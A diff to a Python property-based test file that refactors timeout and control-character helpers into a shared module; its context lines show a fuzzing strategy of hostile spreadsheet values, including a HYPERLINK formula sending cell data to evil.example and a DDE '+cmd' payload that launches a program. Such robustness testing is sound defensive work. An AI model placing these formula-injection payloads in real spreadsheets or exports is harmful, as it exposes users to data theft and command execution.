@@ -16,27 +16,21 @@ from __future__ import annotations
 import json
 import re
 import shutil
-import signal
 import subprocess
 import sys
 import tempfile
-from collections.abc import Iterator
-from contextlib import contextmanager
 from pathlib import Path
-from types import FrameType
 
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from helpers import ROOT, copy_records, pel
-from oddfiles import ODD_KINDS, make_odd
+from oddfiles import FAILURE, ODD_KINDS, RAW_CONTROL, guarded, make_odd
 
 NOW = "2026-11-28T10:00"
 CASES = sorted(p.relative_to(ROOT).as_posix() for p in (ROOT / "cases").glob("*/*/*.yaml"))
 GUARD_S = 120
 """Wall-clock guard per command: a hang (a FIFO opened for reading) fails the example."""
-RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
-FAILURE = ("Traceback", "Kesalahan internal", "Internal error")
 
 HOSTILE = st.one_of(
     st.sampled_from(['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0",
@@ -81,21 +75,6 @@ def mutate(text: str, mutations: list[tuple[str, int, str]]) -> bytes:
             cut = len(line) // 2
             lines[index] = line[:cut] + value + line[cut:]
     return "\n".join(lines).encode("utf-8", "surrogatepass")
-
-
-@contextmanager
-def guarded(seconds: int) -> Iterator[None]:
-    """Fail instead of hanging: an in-process command blocked on a FIFO gets SIGALRM."""
-    def alarm(_signum: int, _frame: FrameType | None) -> None:
-        raise TimeoutError(f"no answer within {seconds} s")
-
-    previous = signal.signal(signal.SIGALRM, alarm)
-    signal.alarm(seconds)
-    try:
-        yield
-    finally:
-        signal.alarm(0)
-        signal.signal(signal.SIGALRM, previous)
 
 
 def assert_clean(command: str, code: int, shown: str) -> None:
